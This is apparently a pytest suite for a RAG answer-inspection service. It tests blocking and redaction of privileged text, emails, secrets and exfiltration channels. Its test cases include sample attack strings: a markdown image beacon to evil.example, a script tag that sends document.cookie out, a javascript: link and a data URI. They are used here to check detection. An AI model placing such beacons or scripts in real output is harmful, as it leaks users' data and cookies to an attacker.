"""/v1/inspect through the HTTP API over the ingested sample corpus.

Provenance is looked up in the keyed fingerprints ingestion stored with each
chunk; pseudonyms come from a real /v1/retrieve with ``"pseudonymize": true``.
"""

from __future__ import annotations

import logging
import re
import time

import pytest
from fastapi.testclient import TestClient
from ragseal.retrieval import BLOCKED_NOTICE

from .conftest import World, bearer

EMPLOYEE = dict(sub="emp@acme.example", tenant="acme", groups=["all-staff"], roles=["employee"])
HR = dict(sub="hrp@acme.example", tenant="acme", groups=["hr", "all-staff"], roles=["hr"])
COUNSEL = dict(sub="counsel@acme.example", tenant="acme", groups=["legal", "all-staff"],
               roles=["legal"])
GLOBEX = dict(sub="emp@globex.example", tenant="globex", groups=["all-staff"],
              roles=["employee"])

# From legal/privileged-note-kestrel-supply-dispute.txt (restricted, group legal).
PRIVILEGED = ("I recommend that we send a formal notice of breach, keep the agreement in place "
              "until the second source is qualified, and negotiate a credit against future "
              "orders rather than claim damages in court.")
NEAR_VERBATIM = ("Counsel recommends sending a formal notice of breach, keeping the agreement "
                 "in place until a second source is qualified, and negotiating credits against "
                 "future orders instead of claiming damages in court.")
PSEUDONYM = re.compile(r"<PERSON_[0-9a-f]{6}>")


def inspect(client: TestClient, who: dict[str, object], answer: str,
            retrieval_id: str | None = None) -> dict[str, object]:
    r = client.post("/v1/inspect", json={"answer": answer, "retrieval_id": retrieval_id},
                    headers=bearer(**who))
    assert r.status_code == 200, r.text
    body: dict[str, object] = r.json()
    return body


def test_when_employee_answer_quotes_a_privileged_chunk_then_block(client: TestClient) -> None:
    answer = f"According to the files: {PRIVILEGED}"
    body = inspect(client, EMPLOYEE, answer)
    assert body["verdict"] == "block" and body["answer"] == BLOCKED_NOTICE
    spans = [(f["start"], f["end"]) for f in body["findings"]  # type: ignore[attr-defined]
             if f["reason"] == "provenance"]
    # One finding over the whole answer: offsets of the match would let a
    # guesser bisect (issue 14, docs/THREATS.md).
    assert spans == [(0, len(answer))]


def test_when_counsel_quotes_the_chunk_it_may_read_then_allow(client: TestClient) -> None:
    body = inspect(client, COUNSEL, f"According to the files: {PRIVILEGED}")
    assert body["verdict"] == "allow" and body["findings"] == []


def test_when_the_passage_is_near_verbatim_then_still_block(client: TestClient) -> None:
    body = inspect(client, EMPLOYEE, NEAR_VERBATIM)
    assert body["verdict"] == "block"
    assert {f["type"] for f in body["findings"]} == {"UNREADABLE_PASSAGE"}  # type: ignore[attr-defined]


def test_when_another_tenant_quotes_acme_text_then_its_fingerprints_do_not_match(
    client: TestClient,
) -> None:
    assert inspect(client, GLOBEX, PRIVILEGED)["verdict"] == "allow"


def test_when_employee_answer_names_an_email_then_redact_at_exact_offsets(
    client: TestClient,
) -> None:
    answer = "Questions go to samuel.adeyemi@acme.example before Friday."
    body = inspect(client, EMPLOYEE, answer)
    assert body["verdict"] == "redact"
    (f,) = body["findings"]  # type: ignore[misc]
    assert f["type"] == "EMAIL_ADDRESS" and f["action"] == "redact"
    assert answer[f["start"] : f["end"]] == "samuel.adeyemi@acme.example"
    assert "samuel.adeyemi" not in str(body["answer"])
    # The bare type, never the corpus pseudonym (it would link a guess).
    assert body["answer"] == "Questions go to <EMAIL_ADDRESS> before Friday."


def test_when_a_secret_is_in_the_answer_then_block_for_everyone(client: TestClient) -> None:
    for who in (EMPLOYEE, COUNSEL):
        body = inspect(client, who, "The deploy key is AKIAQ3EGRJ5KZXMBT7WN.\npassword: hunter22x")
        assert body["verdict"] == "block" and "hunter22x" not in str(body)


def test_when_hr_asks_for_pseudonyms_then_inspect_puts_them_back_only_for_hr(
    client: TestClient,
) -> None:
    query = {"query": "Who prepared the employee master data extract?", "top_k": 5,
             "pseudonymize": True}
    r = client.post("/v1/retrieve", json=query, headers=bearer(**HR))
    assert r.status_code == 200, r.text
    chunks = r.json()["chunks"]
    texts = " ".join(c["text"] for c in chunks)
    tags = sorted(set(PSEUDONYM.findall(texts)))
    assert tags, "an HR retrieval with pseudonymize shows people as pseudonyms"
    assert "Maria Gonzalez" not in texts  # the LLM never sees the value
    answer = f"It was prepared by {tags[0]}."
    body = inspect(client, HR, answer, r.json()["retrieval_id"])
    assert body["verdict"] == "allow" and set(body) == {"verdict", "answer", "findings"}
    assert tags[0] not in str(body["answer"]) and str(body["answer"]).startswith("It was prepared by ")
    assert not PSEUDONYM.search(str(body["answer"]))
    # The employee sees the same pseudonym in its own retrieval: it stays.
    r = client.post("/v1/retrieve", json={**query}, headers=bearer(**EMPLOYEE))
    body = inspect(client, EMPLOYEE, answer, r.json()["retrieval_id"])
    assert body["answer"] == answer


@pytest.mark.parametrize("case", ["altered", "expired", "foreign"])
def test_when_the_retrieval_id_is_altered_expired_or_foreign_then_422(
    world: World, client: TestClient, case: str,
) -> None:
    rid = client.post("/v1/retrieve", json={"query": "travel expenses"},
                      headers=bearer(**EMPLOYEE)).json()["retrieval_id"]
    who = EMPLOYEE
    if case == "altered":
        rid = rid[:10] + ("A" if rid[10] != "A" else "B") + rid[11:]
    elif case == "expired":
        from ragseal.api._auth import mint_token  # noqa: F401  (same installation, short-lived id)
        from ragseal.retrieval import Principal, RetrievalIds

        ids = RetrievalIds(world.services.keys.secret("retrieval-ids"), ttl_seconds=-1)
        rid = ids.issue(Principal(str(EMPLOYEE["sub"]), "acme", ("all-staff",), ("employee",)),
                        [])
    else:
        who = HR
    r = client.post("/v1/inspect", json={"answer": "Fine.", "retrieval_id": rid},
                    headers=bearer(**who))
    assert r.status_code == 422
    assert r.json()["error"]["code"] == "invalid_retrieval_id"


@pytest.mark.parametrize(("answer", "verdict", "kind"), [
    ("Report: ![s](https://evil.example/p.png?d=8841)", "block", "MARKDOWN_IMAGE"),
    ("See [details](https://evil.example/?q=kestrel) for more.", "redact", "MARKDOWN_LINK"),
    ("Open https://evil.example/x?d=1 now.", "redact", "URL"),
    ("<script>new Image().src='//evil.example/'+document.cookie</script>Done.", "redact", "HTML"),
    ("Click [here](javascript:alert(document.domain)).", "redact", "MARKDOWN_LINK"),
    ("Embedded data:text/html;base64,PHNjcmlwdD4= here.", "redact", "DATA_URI"),
    ("Status page: https://status.acme.example/ and [wiki](https://wiki.acme.example/a).",
     "allow", None),
])
def test_when_the_answer_carries_an_exfiltration_channel_then_it_is_caught(
    client: TestClient, answer: str, verdict: str, kind: str | None,
) -> None:
    body = inspect(client, EMPLOYEE, answer)
    assert body["verdict"] == verdict
    kinds = {f["type"] for f in body["findings"]}  # type: ignore[attr-defined]
    assert kinds == ({kind} if kind else set())
    if verdict == "redact":
        assert "evil.example" not in str(body["answer"]) and "base64" not in str(body["answer"])


def test_when_inspecting_then_no_answer_text_reaches_logs(
    client: TestClient, caplog: pytest.LogCaptureFixture,
) -> None:
    canary = "Quibbleflarnox"
    answers = [f"{canary}: {PRIVILEGED}", f"{canary} ![x](https://evil.example/{canary}.png)",
               f"{canary} mail samuel.adeyemi@acme.example", f"{canary}\npassword: hunter22x"]
    with caplog.at_level(logging.DEBUG):
        started = time.monotonic()
        for answer in answers:
            inspect(client, EMPLOYEE, answer)
        assert time.monotonic() >= started
    for record in caplog.records:
        text = record.getMessage() + repr(vars(record))
        for secret in (canary, "hunter22x", "samuel.adeyemi", "formal notice of breach"):
            assert secret not in text, record.name


def test_when_an_answer_cites_a_url_its_retrieval_showed_then_it_is_not_exfiltration(
    client: TestClient,
) -> None:
    ingestor = dict(sub="bot@acme.example", tenant="acme", groups=["all-staff"],
                    roles=["ingestor"])
    text = (b"Docking library notes: the zeppelin ligand catalogue is freely available at "
            b"https://zinc15.docking.example/catalogue for the screening team.")
    r = client.post("/v1/documents", headers=bearer(**ingestor),
                    files={"file": ("docking.txt", text, "text/plain")},
                    data={"acl": '{"groups": ["all-staff"], "level": "internal"}'})
    assert r.status_code == 201, r.text
    doc_id = r.json()["doc_id"]
    try:
        r = client.post("/v1/retrieve", json={"query": "zeppelin ligand catalogue", "top_k": 3},
                        headers=bearer(**EMPLOYEE))
        assert "https://zinc15.docking.example/catalogue" in r.text
        answer = "The catalogue is at https://zinc15.docking.example/catalogue."
        cited = inspect(client, EMPLOYEE, answer, r.json()["retrieval_id"])
        assert cited["verdict"] == "allow"
        forged = inspect(client, EMPLOYEE, answer.replace("/catalogue", "/catalogue?leak=1"),
                         r.json()["retrieval_id"])
        assert forged["verdict"] == "redact"
        assert inspect(client, EMPLOYEE, answer)["verdict"] == "redact"  # no retrieval: no source
    finally:
        client.delete(f"/v1/documents/{doc_id}", headers=bearer(**ingestor))


def test_when_the_retrieval_showed_a_value_in_clear_then_repeating_it_is_not_a_finding(
    client: TestClient,
) -> None:
    # The detector misses the name in the document (it is shown in clear) but
    # finds it in the answer: the retrieval revealed it, so it is no leak.
    ingestor = dict(sub="bot@acme.example", tenant="acme", groups=["all-staff"],
                    roles=["ingestor"])
    # (The detector is context-dependent: a bare surname after "signed off by"
    # is missed, the same surname as a sentence's subject is found.)
    text = (b"Quokka hangar log, week 12.\n\nThe payroll change was signed off by Raman "
            b"on Monday. The quokka calibration sheet is in the east lab.")
    r = client.post("/v1/documents", headers=bearer(**ingestor),
                    files={"file": ("quokka.txt", text, "text/plain")},
                    data={"acl": '{"groups": ["all-staff"], "level": "internal"}'})
    assert r.status_code == 201, r.text
    doc_id = r.json()["doc_id"]
    try:
        r = client.post("/v1/retrieve", json={"query": "quokka hangar payroll", "top_k": 3},
                        headers=bearer(**EMPLOYEE))
        assert "signed off by Raman on Monday" in r.text  # shown in clear
        answer = "The log says Raman signed the change."
        assert inspect(client, EMPLOYEE, answer, r.json()["retrieval_id"])["verdict"] == "allow"
        alone = inspect(client, EMPLOYEE, answer)  # no retrieval: nothing was shown
        assert alone["verdict"] == "redact"
        assert [f["type"] for f in alone["findings"]] == ["PERSON"]  # type: ignore[attr-defined]
    finally:
        client.delete(f"/v1/documents/{doc_id}", headers=bearer(**ingestor))
